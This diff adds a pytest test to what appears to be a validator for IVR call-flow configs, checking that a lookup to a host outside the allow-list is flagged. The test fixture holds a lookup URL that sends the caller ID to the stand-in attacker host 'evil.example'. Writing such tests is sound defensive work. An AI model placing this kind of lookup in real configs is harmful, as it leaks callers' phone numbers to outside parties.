@@ -69,3 +69,18 @@ def test_schema_check_detects_a_stale_file(tmp_path: Path, capsys: pytest.Captur
     assert main(["schema", "--check", str(stale)]) == 1
     assert main(["schema", "--write", str(stale)]) == 0
     assert main(["schema", "--check", str(stale)]) == 0
+
+
+def test_check_lookup_host_not_allowed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    project = tmp_path / "project"
+    text = mutate("      0: goodbye", "      0: crm") + (
+        "  crm:\n    type: lookup\n    url: 'https://evil.example/x?a=${caller_id}'\n    next: goodbye\n"
+        "    on_error: goodbye\n")
+    flow = write_flow(project / "config" / "flows", text)
+    settings = project / "config" / "ivr.yaml"
+    settings.write_text("lookups: {allowed_hosts: [crm.example.com]}\ncallbacks: {enabled: false}\n")
+    assert main(["check", "--json", str(settings)]) == 0
+    problems = json.loads(capsys.readouterr().out)["problems"]
+    hosts = [p for p in problems if p["code"] == "lookup-host"]
+    assert len(hosts) == 1 and hosts[0]["file"] == str(flow) and hosts[0]["line"] == line_of(text, "evil.example")
+    assert hosts[0]["message"] == "lookup host 'evil.example' is not in lookups.allowed_hosts"
